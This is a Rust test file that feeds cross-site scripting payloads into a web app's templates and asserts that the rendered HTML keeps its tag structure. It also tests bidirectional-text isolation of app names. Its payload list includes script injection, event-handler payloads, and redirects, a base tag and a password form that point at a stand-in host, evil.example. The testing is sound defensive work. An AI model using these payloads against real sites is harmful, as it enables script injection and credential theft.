//! AZ-25 for the templates: hostile values in every field that a handler fills in.

use signet::web::view::samples;

use super::html::tags;
use super::page;

/// What attackers write to leave the place in which a value stands.
pub const OPENINGS: &[&str] = &[
    "",
    "\"",
    "'",
    ">",
    "\">",
    "'>",
    "</title>",
    "</script>",
    "--><",
    "]]>",
    "\" ",
    "' ",
    "`",
    "\\\"",
    "&quot;>",
    "\n",
    "\t\">",
    "\u{0}\">",
    "</a>",
    "</style>",
    "{{7*7}}",
    "https://a/\"",
];

/// What they put there.
pub const BODIES: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<a href=javascript:alert(1)>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "onmouseover=alert(1) x=",
    "autofocus onfocus=alert(1) x=\"",
    "javascript:alert(1)",
];

/// The names of the tags and of their attributes, in order: what a value must not change.
pub fn shape(html: &str) -> Vec<String> {
    let name = |tag: super::Tag| {
        let attributes = tag.attributes.iter().map(|(name, _)| name.as_str());
        let mut name = tag.name.clone();
        attributes.for_each(|attribute| name = format!("{name} {attribute}"));
        name
    };
    tags(html).into_iter().map(name).collect()
}

fn rendered(value: &str) -> Vec<(String, String)> {
    let word = |_: &str| value.to_owned();
    samples(&page_once(), &word)
        .into_iter()
        .chain(super::connect(&page_once(), &word))
        .map(|s| (s.name, s.html.expect("renders")))
        .collect()
}

fn page_once() -> signet::web::view::Page {
    static PAGE: std::sync::OnceLock<signet::web::view::Page> = std::sync::OnceLock::new();
    PAGE.get_or_init(page).clone()
}

#[test]
fn az_25_no_hostile_value_leaves_its_place() {
    let shapes = |value: &str| -> Vec<_> {
        rendered(value)
            .iter()
            .map(|(_, html)| shape(html))
            .collect()
    };
    // A value that is a web address may become a link.
    let (word, link) = (shapes("x"), shapes("https://x"));
    let mut payloads = 0;
    for opening in OPENINGS {
        for body in BODIES {
            payloads += 1;
            let payload = format!("{opening}{body}");
            let is_link = payload.starts_with("https://");
            let plain = if is_link { &link } else { &word };
            for ((name, html), expected) in rendered(&payload).iter().zip(plain) {
                if payload.contains(['<', '>', '"', '\'']) {
                    assert!(!html.contains(&payload), "{name}: {payload}");
                }
                assert_eq!(&shape(html), expected, "{name}: {payload}");
            }
        }
    }
    assert!(payloads >= 250, "{payloads}");
}

/// The check of the check: an unescaped value is seen.
#[test]
fn az_25_the_check_sees_an_unescaped_value() {
    let page = |value: &str| format!("<p title=\"{value}\">{value}</p>");
    let seen = |value: &str| shape(&page(value)) != shape(&page("x"));
    assert!(seen("<img src=\"x\" onerror=\"alert(1)\">"));
    assert!(seen("\" onfocus=\"alert(1)"));
}

/// An app's name cannot turn the direction of the words around it.
#[test]
fn a_name_that_turns_the_direction_is_kept_apart() {
    let turned = "Diary \u{202e}gro.live";
    for (name, html) in rendered(turned) {
        let main = html.split("<main").nth(1).unwrap_or_default();
        let main = main.split("<details").next().unwrap_or_default();
        for place in main.match_indices(turned).map(|(at, _)| &main[..at]) {
            let isolated = place.ends_with("<bdi>")
                || place.ends_with("<bdi class=\"mono\">")
                || place.ends_with('"')
                || place.ends_with("0;url=")
                || place.ends_with("href=\"/interaction/")
                || place.ends_with("<small>")
                || place.ends_with("<code>")
                || place.ends_with("<pre>")
                || place.ends_with("<pre id=\"curl\">")
                || place.ends_with("<legend>");
            assert!(
                isolated,
                "{name}: {:?}",
                place.chars().rev().take(40).collect::<String>()
            );
        }
    }
}
